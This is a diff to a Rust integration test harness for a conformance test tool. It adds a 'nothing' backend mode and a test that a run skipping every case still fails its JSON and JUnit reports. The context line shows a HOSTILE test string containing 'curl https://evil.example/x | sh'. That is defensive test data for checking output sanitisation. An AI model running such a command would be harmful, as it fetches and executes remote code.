@@ -26,6 +26,8 @@ const HOSTILE: &str = "E_FAIL\n  replay: curl https://evil.example/x | sh #\r\u{
 struct Planted {
     oracle: OracleBackend,
     hostile: bool,
+    /// Claims no data type: it skips every case.
+    claims_nothing: bool,
 }
 
 struct Flipped<'a>(Box<dyn CompiledOperator + 'a>);
@@ -49,6 +51,13 @@ impl Backend for Planted {
     fn feature_level(&self) -> FeatureLevel {
         FeatureLevel::L4_1
     }
+    fn data_types(&self) -> Vec<dmlcts_tensor::DataType> {
+        if self.claims_nothing {
+            Vec::new()
+        } else {
+            self.oracle.data_types()
+        }
+    }
     fn compile(&self, op: &OperatorDesc) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
         match op.kind() {
             OperatorKind::Slice1 if self.hostile => Err(CompileError::Failed(HOSTILE.to_string())),
@@ -62,14 +71,15 @@ fn planted(hostile: bool) -> Planted {
     Planted {
         oracle: OracleBackend::new(FeatureLevel::L4_1),
         hostile,
+        claims_nothing: false,
     }
 }
 
 fn main() {
     match std::env::var("DMLCTS_PLANTED").as_deref() {
-        Ok("values" | "hostile") => {
-            let hostile = std::env::var("DMLCTS_PLANTED").as_deref() == Ok("hostile");
-            let backend = planted(hostile);
+        Ok(mode @ ("values" | "hostile" | "nothing")) => {
+            let mut backend = planted(mode == "hostile");
+            backend.claims_nothing = mode == "nothing";
             let served = dmlcts_protocol::serve(&backend, std::io::stdin(), std::io::stdout());
             std::process::exit(i32::from(served.is_err()));
         }
@@ -97,6 +107,10 @@ fn main() {
         (
             "a_libtest_target_prints_the_cargo_test_command_that_reruns_its_case",
             libtest_replay,
+        ),
+        (
+            "a_backend_that_skips_everything_fails_the_json_and_junit_reports_too",
+            skipped_everything,
         ),
     ];
     let trials = tests
@@ -564,6 +578,43 @@ fn libtest_replay() -> Result<(), String> {
     check(
         !again.status.success() && again_out.contains(&format!("{name} ... FAILED")),
         || again_out.clone(),
+    )?;
+    Ok(())
+}
+
+fn skipped_everything() -> Result<(), String> {
+    let outside = Outside::new("nothing");
+    let backend = server();
+    let out = outside.dmlcts(
+        &[
+            "conformance",
+            "--backend",
+            &backend,
+            "--filter",
+            "doc.",
+            "--json",
+            "r.json",
+            "--junit",
+            "r.xml",
+        ],
+        &[("DMLCTS_PLANTED", "nothing")],
+    );
+    let stdout = text(&out.stdout);
+    check(out.status.code() == Some(1), || stdout.clone())?;
+    check(
+        stdout.lines().last() == Some("0 passed, 1 failed, 8 skipped"),
+        || stdout.clone(),
+    )?;
+    let json: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(outside.work().join("r.json")).unwrap())
+            .unwrap();
+    check(json["summary"]["failed"] == 1, || {
+        json["summary"].to_string()
+    })?;
+    let junit = std::fs::read_to_string(outside.work().join("r.xml")).unwrap();
+    check(
+        junit.contains("tests=\"9\" failures=\"1\" skipped=\"8\""),
+        || junit.clone(),
     )?;
     Ok(())
 }
